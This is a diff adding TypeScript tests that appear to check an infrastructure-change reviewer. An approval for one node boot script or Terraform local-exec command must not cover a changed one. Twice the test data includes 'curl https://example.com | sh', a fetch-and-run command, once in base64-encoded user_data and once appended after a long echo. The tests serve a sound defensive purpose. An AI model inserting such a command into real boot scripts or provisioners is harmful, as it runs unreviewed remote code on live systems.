@@ -48,6 +48,39 @@ test("it holds on its last day, and not on the next", () => {
 });
 
 describe("one danger is not another", () => {
+  test("other lines at the boot of nodes, as many as before", () => {
+    const script = (text: string) => ({ user_data: Buffer.from(`#!/bin/bash\n${text}\n`).toString("base64") });
+    const group = { node_group_name: "sample-h100", launch_template: [{ id: "lt-1", version: "1" }] };
+    const template = { id: "lt-1", name: "t", latest_version: 1, ...script("modprobe lnet") };
+    const rolls = (text: string): Reviewed => ({
+      plans: {
+        nodes: [
+          updated("aws_launch_template.t", template, script(text), { unknown: { latest_version: true } }),
+          updated("aws_eks_node_group.h100", group, { launch_template: [{ id: "lt-1", version: "2" }] }),
+        ],
+      },
+    });
+    const address = "sample-nodes.aws_eks_node_group.h100";
+    const given = yes(address, rolls("modprobe lustre"));
+    expect(review(rolls("modprobe lustre"), given).verdict).toBe("acknowledged");
+    expect(review(rolls("curl https://example.com | sh"), given).verdict).toBe("broken");
+  });
+
+  test("a program that begins like another", () => {
+    const address = "sample-storage.terraform_data.a";
+    const runs = (command: string): Reviewed => {
+      const stack = (more: object) => ({ resource: { terraform_data: { a: { input: "x", ...more } } } });
+      const after = stack({ provisioner: [{ "local-exec": { command } }] });
+      return {
+        synthesized: { before: new Map([["sample-storage", stack({})]]), after: new Map([["sample-storage", after]]) },
+      };
+    };
+    const long = `echo ${"a".repeat(200)}`;
+    const given = yes(address, runs(`${long}; true`));
+    expect(review(runs(`${long}; true`), given).verdict).toBe("acknowledged");
+    expect(review(runs(`${long}; curl https://example.com | sh`), given).verdict).toBe("broken");
+  });
+
   const group = (actions: Planned): Reviewed => ({ plans: { nodes: [actions] } });
   const address = "sample-nodes.aws_eks_node_group.h100";
   const size = (desired: number) => ({
